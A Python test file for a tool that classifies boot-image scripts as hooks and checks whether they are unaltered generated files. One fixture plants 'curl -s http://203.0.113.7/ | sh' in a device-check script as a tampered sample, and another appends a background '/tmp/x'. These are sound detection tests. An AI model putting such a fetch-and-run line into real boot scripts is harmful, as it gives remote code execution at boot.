"""Which scripts of an image run by themselves, and which its maker writes."""

import pytest

from hemostat.model.path import HostPath
from hemostat.parse.host.boot_script import is_generated, is_hook

ORDER = b'/scripts/init-top/all_generic_ide "$@"\n[ -e /conf/param.conf ] && . /conf/param.conf\n'


@pytest.mark.parametrize(
    "path",
    ["/init", "/scripts/functions", "/scripts/local-top/lvm2", "/usr/lib/dracut/hooks/mount/9.sh"],
)
def test_what_runs_at_boot_is_a_hook(path: str) -> None:
    assert is_hook(HostPath(path))


@pytest.mark.parametrize("path", ["/usr/bin/x", "/sbin/init", "/etc/init", "/conf/x"])
def test_other_files_are_none(path: str) -> None:
    assert not is_hook(HostPath(path))


def test_an_order_of_calls_is_generated_and_one_with_more_is_not() -> None:
    path = HostPath("/scripts/init-top/ORDER")
    assert is_generated(path, ORDER)
    assert not is_generated(path, ORDER + b"/tmp/x &\n")
    assert not is_generated(HostPath("/scripts/init-top/udev"), ORDER)


def test_a_question_for_a_device_is_generated_and_one_with_more_is_not() -> None:
    path = HostPath("/usr/lib/dracut/hooks/initqueue/finished/devexists.sh")
    assert is_generated(path, b'[ -e "/dev/disk/by-uuid/1-2" ]\n')
    assert not is_generated(path, b'[ -e "/dev/sda" ]\ncurl -s http://203.0.113.7/ | sh\n')
